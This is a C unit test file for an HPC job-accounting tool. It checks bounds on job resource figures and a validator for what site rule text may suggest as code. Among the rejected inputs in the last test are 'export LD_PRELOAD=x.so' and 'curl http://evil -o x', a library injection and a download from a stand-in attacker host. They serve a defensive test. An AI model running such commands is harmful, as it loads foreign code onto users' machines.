/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What a row may claim (user/index/row_bounds.c), and what can be copied from it
 * (user/findings/rules_text.c). */
#include <math.h>
#include <time.h>

#include "tests/unit/unit.h"
#include "findings/findings.h"
#include "index/row.h"

/* A job of two nodes with 16 CPUs and a GPU that ran for an hour. */
static struct row an_hour(void)
{
	struct row r;

	row__init(&r);
	r.number[INDEX_start] = 1.7e9;
	r.number[INDEX_elapsed_s] = 3600;
	r.number[INDEX_cpus] = 16;
	r.number[INDEX_nodes] = 2;
	r.number[INDEX_gpus] = 1;
	return r;
}

static bool is_kept(enum index_column c, double v)
{
	struct row r = an_hour();

	r.number[c] = v;
	row__bound(&r);
	return r.number[c] == v;
}

TEST(amounts_that_can_be)
{
	assert_true(is_kept(INDEX_cpu_s, 16 * 3600.0));
	assert_true(is_kept(INDEX_cpu_s, 0));
	assert_true(is_kept(INDEX_idle_gpu_s, 3600));
	assert_true(is_kept(INDEX_energy_j, 3600 * 2000.0));
	assert_true(is_kept(INDEX_read_bytes, 1e14));
	assert_true(is_kept(INDEX_submit, 1.69e9));
}

TEST(amounts_that_cannot)
{
	assert_false(is_kept(INDEX_cpu_s, 18.5 * 3600));
	assert_false(is_kept(INDEX_cpu_s, INFINITY));
	assert_false(is_kept(INDEX_idle_gpu_s, 2 * 3600));
	assert_false(is_kept(INDEX_energy_j, 3600 * 10000.0));
	assert_false(is_kept(INDEX_energy_high_j, 1e15));
	assert_false(is_kept(INDEX_write_bytes, 1e17));
	assert_false(is_kept(INDEX_submit, 1000));
}

TEST(nodes_have_a_cpu_each)
{
	struct row r = an_hour();

	r.number[INDEX_nodes] = 1e12;
	r.number[INDEX_energy_j] = 1e12;
	row__bound(&r);
	assert_true(isnan(r.number[INDEX_energy_j]));
}

TEST(of_an_unknown_size_nothing_is_known)
{
	struct row r = an_hour();

	r.number[INDEX_cpus] = NAN;
	r.number[INDEX_cpu_s] = r.number[INDEX_energy_j] = 1;
	row__bound(&r);
	assert_true(isnan(r.number[INDEX_cpu_s]) && isnan(r.number[INDEX_energy_j]));
}

TEST(slurm_may_have_counted_more)
{
	struct row r = an_hour();

	r.number[INDEX_cpu_s] = 1e6;
	r.number[INDEX_slurm_cpu_s] = 1e6;
	r.number[INDEX_sources] = ROW_SOURCE_SLURM | ROW_SOURCE_PROFILE;
	row__bound(&r);
	assert_true(r.number[INDEX_cpu_s] == 1e6);
	r.number[INDEX_sources] = ROW_SOURCE_PROFILE; /* as the profile itself says */
	row__bound(&r);
	assert_true(isnan(r.number[INDEX_cpu_s]));
}

static bool can_be(double start, double elapsed, bool is_of_slurm)
{
	struct row r = an_hour();

	r.number[INDEX_start] = start;
	r.number[INDEX_elapsed_s] = elapsed;
	return !row__find_bad_time(&r, is_of_slurm);
}

TEST(times)
{
	const double now = (double)time(NULL), years = 3 * 366 * 86400.0;

	assert_true(can_be(now, 1, false) && can_be(now + 3000, 1, false));
	assert_true(can_be(now - years, years, true) && !can_be(now - years, years, false));
	assert_false(can_be(now + 7200, 1, true));
	assert_false(can_be(1000, 1, true));
}

TEST(what_rules_can_say)
{
	const struct rules_text none = {0}, site = {.text = (char *)"code = \"sbatch --qos=low\""};

	assert_true(rules_text__has_code(&none, "#SBATCH --mem=16G"));
	assert_true(rules_text__has_code(&none, "export OMP_NUM_THREADS=2 OPENBLAS_NUM_THREADS=2"));
	assert_true(rules_text__has_code(&none, "srun --cpus-per-task=4 --cpu-bind=cores"));
	assert_false(rules_text__has_code(&none, "export LD_PRELOAD=x.so"));
	assert_false(rules_text__has_code(&none, "curl http://evil -o x"));
	assert_false(rules_text__has_code(&none, "#SBATCH --me=16G"));
	assert_false(rules_text__has_code(&none, "#SBATCH --qos=low"));
	assert_true(rules_text__has_code(&site, "#SBATCH --qos=high"));
}
